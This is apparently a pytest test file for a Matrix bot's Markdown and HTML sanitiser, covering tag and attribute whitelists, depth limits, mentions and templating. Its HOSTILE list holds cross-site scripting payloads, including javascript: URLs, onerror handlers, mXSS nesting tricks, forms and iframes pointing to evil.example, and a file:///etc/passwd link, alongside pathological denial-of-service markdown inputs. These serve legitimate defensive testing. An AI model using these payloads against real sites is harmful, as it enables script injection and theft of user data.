"""Markdown and HTML: what is allowed gets through, what is hostile does not, and there is always a body."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bots.framework import content
from bots.framework.content.tree import ATTRIBUTES, MAX_DEPTH, TAGS, VOID

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>alert(1)</sCrIpT>x",
    "<style>*{display:none}</style>x",
    "<b onclick=alert(1) style='font-size:999px' id=x class=y>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a><a href='//evil.example'>z</a><a href='/a'>w</a>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<b><i><u>unclosed",
    "</div></p></span>",
    "<!--<img src=x onerror=alert(1)>--><!DOCTYPE html><?php ?><![CDATA[x]]>",
    "<mx-reply><blockquote>old</blockquote></mx-reply>new",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><a href='https://x.example'><td><table><a href='https://y.example'>",
    '<a href="https://x.example" title=\'"><script>alert(1)</script>\'>x</a>',
    "<plaintext>all of this <b>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<base href='https://evil.example'><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
]


class Checker(HTMLParser):
    """Asserts that HTML is well formed and holds only what Matrix permits; kept apart from the code under test."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, ()), (tag, name)
            if name == "href":
                assert re.match(r"(https?|ftp|mailto|magnet|matrix):", value or "", re.IGNORECASE), value
            if name == "src":
                assert (value or "").startswith("mxc://")
            if name == "class":
                assert all(word.startswith("language-") for word in (value or "").split())
        self.deepest = max(self.deepest, len(self.open) + 1)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("a processing instruction")


def checked(html: str) -> str:
    checker = Checker()
    checker.feed(html)
    checker.close()
    assert not checker.open
    assert checker.deepest <= MAX_DEPTH
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", html)
    return html


def body_of(source: str) -> str:
    return str(content.markdown(source)["body"])


# What Matrix permits, in pieces, and pieces that are hostile: put together at random they meet HTML's repairs.
TAG_PIECES = st.sampled_from(
    [
        f"<{tag}>"
        for tag in sorted(TAGS | {"script", "svg", "math", "style", "form", "template", "select", "title", "x"})
    ]
    + [f"</{tag}>" for tag in sorted(TAGS | {"script", "svg", "math", "style", "form", "template", "select", "title"})]
)
MARKUP = st.lists(
    TAG_PIECES
    | st.sampled_from(HOSTILE)
    | st.sampled_from(
        ["<a href='", "'>", '"', "<!--", "-->", "&lt;", "&#0;", "&#x202e;", "<", ">", " onclick=x ", "\x00"]
    )
    | st.text(max_size=5),
    max_size=25,
).map("".join)


@given(MARKUP | st.text(max_size=200))
def test_nothing_but_what_is_permitted_comes_out_and_it_stays_as_it_is(source: str) -> None:
    clean = checked(content.sanitise(source))
    assert content.sanitise(clean) == clean


@given(MARKUP | st.text(min_size=1, max_size=200))
def test_there_is_always_a_body(source: str) -> None:
    for made in (content.html(source), content.markdown(source)):
        if source:
            assert made["body"].strip()
        checked(made.get("formatted_body", ""))
        assert made["m.mentions"] == {}
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", made["body"])


@pytest.mark.parametrize("source", HOSTILE)
def test_what_is_hostile_is_gone(source: str) -> None:
    clean = checked(content.sanitise(source))
    assert not re.search(r"alert|javascript|evil|onerror|onclick|data:|display", clean)
    checked(content.markdown(source).get("formatted_body", ""))


@pytest.mark.parametrize(
    ("source", "clean"),
    [
        ("<b>a</b> & b", "<b>a</b> &amp; b"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ('<a href="https://x.example/?a=1&b=2">x</a>', '<a href="https://x.example/?a=1&amp;b=2">x</a>'),
        ('<a href="matrix:u/alice:x.example">x</a>', '<a href="matrix:u/alice:x.example">x</a>'),
        ('<a href="mailto:a@x.example">x</a>', '<a href="mailto:a@x.example">x</a>'),
        ('<span data-mx-color="#ff0000" data-mx-bg-color="red">x</span>', '<span data-mx-color="#ff0000">x</span>'),
        ('<span data-mx-spoiler="why">x</span>', '<span data-mx-spoiler="why">x</span>'),
        ("<span data-mx-spoiler>x</span>", '<span data-mx-spoiler="">x</span>'),
        ('<div data-mx-maths="\\frac{1}{2}">x</div>', '<div data-mx-maths="\\frac{1}{2}">x</div>'),
        ('<code class="language-c++ evil">x</code>', '<code class="language-c++">x</code>'),
        ('<ol start="3"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'),
        ('<ol start="1e9"><li>x</li></ol>', "<ol><li>x</li></ol>"),
        ('<img src="mxc://x.example/a" alt="A" width="5">', '<img alt="A" src="mxc://x.example/a" width="5">'),
        ('<img src="https://x.example/a" alt="A">', "A"),
        ('<img src="mxc://../../x">', ""),
        ("<font color=red>x</font>", "x"),
        ("a\u202eb&#x202e;c\x07d&#7;", "abcd"),
        ("\u2067a", "\u2067a\u2069"),
        ("<mx-reply>old</mx-reply>new", "new"),
    ],
)
def test_what_becomes_of_html(source: str, clean: str) -> None:
    assert content.sanitise(source) == clean


@pytest.mark.parametrize(
    "piece", ["<div>", "<b>", "<ul><li>", "<span data-mx-color='#ffffff'>", "<blockquote>", "<sup>"]
)
def test_ten_thousand_levels_are_a_hundred(piece: str) -> None:
    source = piece * (10_000 if len(piece) < 6 else 5_000 if len(piece) < 14 else 1_500) + "deep"
    began = time.monotonic()
    made = content.html(source)
    assert time.monotonic() - began < 5
    checked(made.get("formatted_body", ""))
    assert "deep" in made["body"]


@pytest.mark.parametrize(
    "source",
    [
        "[" * 30000,
        ">" * 30000,
        "*a" * 15000,
        "- " * 15000,
        "[a](b" * 8000,
        "|" * 30000 + "\n" + "|-" * 15000,
        "![[" * 10000,
        "`" * 30000,
        "||a" * 10000,
        "<a " * 10000,
        "&" * 60000,
        "a\n" * 4000,
    ],
    ids=lambda source: source[:4],
)
def test_large_and_hostile_markdown_takes_little_time(source: str) -> None:
    began = time.monotonic()
    try:
        assert content.markdown(source)["body"]
    except content.ContentTooLong as error:
        assert error.fields["limit"] < error.fields["length"]
    assert time.monotonic() - began < 5


def test_more_than_an_event_holds_is_refused() -> None:
    for build in (content.markdown, content.html, content.sanitise):
        with pytest.raises(content.ContentTooLong) as refused:
            build("x" * 65_537)
        assert refused.value.code == "content_too_long"
        assert refused.value.fields == {"length": 65_537, "limit": 65_536}


@pytest.mark.parametrize(
    ("source", "body"),
    [
        ("**bold** and *slanted*", "bold and slanted"),
        ("~~12~~ 10 EUR", "~~12~~ 10 EUR"),
        ("# Menu\n\ntext", "# Menu\n\ntext"),
        ("one\ntwo\n\nthree", "one\ntwo\n\nthree"),
        ("- a\n- b\n  - c\n  - d\n- e", "- a\n- b\n  - c\n  - d\n- e"),
        ("3. a\n4. b", "3. a\n4. b"),
        ("9. a\n10. b\n    c", "9. a\n10. b\n    c"),
        ("- a\n\n  more\n- b", "- a\n  more\n- b"),
        ("> a\n> b\n\nc", "> a\n> b\n\nc"),
        ("> > a", "> > a"),
        ("`x = 1` then", "`x = 1` then"),
        ("`` a`b ``", "`` a`b ``"),
        ("```python\nx = 1\n\n  y\n```", "```python\nx = 1\n\n  y\n```"),
        ("[here](https://x.example)", "here (https://x.example)"),
        ("[x.example](https://x.example)", "x.example"),
        ("<https://x.example>", "https://x.example"),
        ("[a@x.example](mailto:a@x.example)", "a@x.example"),
        ("[bad](javascript:alert)", "[bad](javascript:alert)"),
        ('<a href="javascript:alert">bad</a>', "bad"),
        ("![a cat](mxc://x.example/a)", "a cat"),
        ("![](mxc://x.example/a)", "[image]"),
        ("the ||butler|| did it", "the [spoiler] did it"),
        ("a || b", "a || b"),
        ("||||", "||||"),
        ("---", "---"),
        ("x<sup>2</sup> H<sub>2</sub>O e<sup>-x</sup>", "x^2 H_2O e^(-x)"),
        ("a  \nb", "a\nb"),
        ("\\*plain\\*", "*plain*"),
        ("5 < 6 & 7", "5 < 6 & 7"),
        ("| a | bb |\n|---|---|\n| ccc | d |\n| 日本 | e |", "a    | bb\n-----|---\nccc  | d\n日本 | e"),
        ("[ref]: https://x.example", "[ref]: https://x.example"),
        ("<script>x</script>", "<script>x</script>"),
        ("\x00", "\N{REPLACEMENT CHARACTER}"),
        ("- [link](https://x.example)\n- `code`", "- link (https://x.example)\n- `code`"),
        ("<details><summary>More</summary>hidden</details>", "More\nhidden"),
        ("\ud800", "\N{REPLACEMENT CHARACTER}"),
    ],
)
def test_the_body_of_markdown(source: str, body: str) -> None:
    assert body_of(source) == body


@pytest.mark.parametrize(
    ("source", "formatted"),
    [
        ("**bold**", "<strong>bold</strong>"),
        ("one\ntwo", "one<br>\ntwo"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("```python\nx\n```", '<pre><code class="language-python">x\n</code></pre>'),
        ("||**a**||", '<span data-mx-spoiler=""><strong>a</strong></span>'),
        ("~~a~~", "<s>a</s>"),
    ],
)
def test_the_html_of_markdown(source: str, formatted: str) -> None:
    made = content.markdown(source)
    assert (made["format"], made["formatted_body"]) == ("org.matrix.custom.html", formatted)


def test_text_without_markup_has_no_html() -> None:
    assert content.markdown("Hello") == {"msgtype": "m.notice", "body": "Hello", "m.mentions": {}}
    assert content.markdown("a & b", notice=False) == {"msgtype": "m.text", "body": "a & b", "m.mentions": {}}
    assert content.text("*as it stands*\x00") == {"msgtype": "m.notice", "body": "*as it stands*", "m.mentions": {}}


def test_words_of_the_body_are_translated() -> None:
    class French:
        language = "fr"

        def t(self, text: str, /, **values: object) -> str:
            return {"spoiler": "divulgâcheur", "image": "image"}[text]

        def n(self, one: str, many: str, count: int, /, **values: object) -> str:
            raise AssertionError

    assert content.markdown("||x||", translator=French())["body"] == "[divulgâcheur]"


@given(st.text(min_size=1, max_size=80))
def test_words_put_in_with_safe_are_read_and_never_obeyed(words: str) -> None:
    for build in (content.markdown, content.html):
        made = build(content.safe("You said {words}!", words=words))
        shown = content.clean(words)
        expected = " ".join(f"You said {shown}!".split())
        assert " ".join(made["body"].split()) == expected
        assert not re.search(r"<(?!br>)", made.get("formatted_body", ""))
        assert made["m.mentions"] == {}


@pytest.mark.parametrize(
    "words", ["# h", "- x", "1. x", "> q", "    code", "\tcode", "a\n\n# b", "|a|b|\n|-|-|", "a||b||"]
)
def test_words_at_the_beginning_of_a_line_are_words_too(words: str) -> None:
    made = content.markdown(content.safe("{words}", words=words))
    assert not re.search(r"<(?!br>)", made.get("formatted_body", ""))
    assert made["body"].split() == words.split()


def test_safe_formats_and_nests() -> None:
    inner = content.safe("**{name}**", name="*Bob*")
    made = content.markdown(content.safe("{who} pays {amount:.2f} EUR, {who!r}", who=inner, amount=5))
    assert made["body"].startswith("*Bob* pays 5.00 EUR")
    with pytest.raises(KeyError):
        content.safe("{missing}")


def test_helpers_say_what_they_are_given() -> None:
    assert content.markdown(content.code("a *b* <c> `d`"))["body"] == "`` a *b* <c> `d` ``"
    block = content.markdown(content.code_block("if a < b:\n\n    *c*", "python"))
    assert block["body"] == "```python\nif a < b:\n\n    *c*\n```"
    assert 'class="language-python"' in block["formatted_body"]
    assert content.html(content.code_block("x", "no language"))["formatted_body"] == "<pre><code>x</code></pre>"
    assert content.markdown(content.link("https://x.example/?a=1&b='2'", "*x*"))["body"].startswith("*x*")
    assert content.html(content.link("javascript:alert(1)", "x"))["body"] == "x"
    hidden = content.markdown(content.spoiler("the *butler*", 'the "end"'))
    assert hidden["body"] == '[spoiler: the "end"]'
    assert "the *butler*" in hidden["formatted_body"]
    assert content.markdown(content.maths("a^2 < b_1"))["body"] == "$a^2 < b_1$"
    assert (
        content.html(content.maths("x", block=True))["formatted_body"] == '<div data-mx-maths="x"><code>x</code></div>'
    )


def test_who_is_mentioned_is_notified_and_nobody_else() -> None:
    alice = content.mention("@alice:x.example", "Alice *A*")
    made = content.markdown(content.safe("Hi {alice}, @bob:x.example and {other}", alice=alice, other="@room"))
    assert made["m.mentions"] == {"user_ids": ["@alice:x.example"]}
    assert made["body"] == "Hi Alice *A*, @bob:x.example and @room"
    assert '<a href="https://matrix.to/#/@alice:x.example">Alice *A*</a>' in made["formatted_body"]
    assert content.html("Hi " + alice)["m.mentions"] == {"user_ids": ["@alice:x.example"]}
    assert content.html(alice + " hi")["m.mentions"] == {"user_ids": ["@alice:x.example"]}
    both = content.Safe(" and ").join([alice, content.mention("@bob:x.example")])
    assert content.markdown(both)["m.mentions"] == {"user_ids": ["@alice:x.example", "@bob:x.example"]}
    everybody = content.markdown(content.safe("{room}: dinner", room=content.mention_room()))
    assert (everybody["m.mentions"], everybody["body"]) == ({"room": True}, "@room: dinner")


@pytest.mark.parametrize("user_id", ["alice", "@alice", "#a:x", "@a b:x.example", "@a:x/..", "", "@a\u202e:x.example"])
def test_only_people_can_be_mentioned(user_id: str) -> None:
    with pytest.raises(content.ContentError):
        content.mention(user_id)
